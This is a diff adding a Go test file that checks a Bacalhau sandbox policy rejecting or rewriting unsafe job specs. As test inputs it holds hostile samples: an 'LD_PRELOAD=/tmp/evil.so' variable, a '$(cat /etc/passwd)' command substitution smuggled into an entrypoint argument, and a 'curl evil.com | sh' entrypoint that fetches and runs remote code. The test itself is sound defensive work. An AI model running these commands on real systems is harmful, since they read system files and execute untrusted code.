@@ -0,0 +1,74 @@
+package bridge
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/bacalhau-project/bacalhau/pkg/model"
+	"github.com/stretchr/testify/require"
+)
+
+func TestSandboxRejectsUnsafeSpecs(t *testing.T) {
+	policy := &SpecPolicy{Sandbox: SandboxPolicy{
+		Networks:  []string{"none", "http"},
+		Env:       PatternList{Deny: []string{"LD_*"}},
+		DenyShell: true,
+	}}
+
+	for name, unsafe := range map[string]func(*model.Spec){
+		"network":     func(spec *model.Spec) { spec.Network.Type = model.NetworkFull },
+		"environment": func(spec *model.Spec) { spec.Docker.EnvironmentVariables = []string{"LD_PRELOAD=/tmp/evil.so"} },
+		"shell":       func(spec *model.Spec) { spec.Docker.Entrypoint = []string{"/bin/bash", "-ec", "echo hi"} },
+		"operator":    func(spec *model.Spec) { spec.Docker.Entrypoint = []string{"echo", "$(cat /etc/passwd)"} },
+	} {
+		spec := fastSpec
+		unsafe(&spec)
+		_, err := policy.Sanitize(&spec)
+		var rejection *Rejection
+		require.True(t, errors.As(err, &rejection), name)
+	}
+
+	spec := fastSpec
+	spec.Docker.EnvironmentVariables = []string{"GREETING=hi"}
+	changes, err := policy.Sanitize(&spec)
+	require.NoError(t, err)
+	require.Empty(t, changes)
+}
+
+func TestSandboxRewritesUnsafeSpecs(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "policy.yaml")
+	require.NoError(t, os.WriteFile(path, []byte(`
+resources:
+  cpu: "2"
+sandbox:
+  rewrite: true
+  networks: [None]
+  env:
+    deny: ["LD_*"]
+  denyShell: true
+`), 0644))
+	policy, err := LoadPolicy(path)
+	require.NoError(t, err)
+
+	spec := fastSpec
+	spec.Network = model.NetworkConfig{Type: model.NetworkFull}
+	spec.Docker.EnvironmentVariables = []string{"LD_PRELOAD=/tmp/evil.so", "GREETING=hi"}
+	spec.Resources = model.ResourceUsageConfig{CPU: "16"}
+
+	changes, err := policy.Sanitize(&spec)
+	require.NoError(t, err)
+	require.Len(t, changes, 3)
+	require.Equal(t, model.NetworkNone, spec.Network.Type)
+	require.Equal(t, []string{"GREETING=hi"}, spec.Docker.EnvironmentVariables)
+	require.Equal(t, "2", spec.Resources.CPU)
+	require.NoError(t, policy.Check(spec))
+
+	// Entrypoints are never rewritten.
+	spec = fastSpec
+	spec.Docker.Entrypoint = []string{"sh", "-c", "curl evil.com | sh"}
+	_, err = policy.Sanitize(&spec)
+	require.Error(t, err)
+	require.Equal(t, []string{"echo"}, fastSpec.Docker.Entrypoint)
+}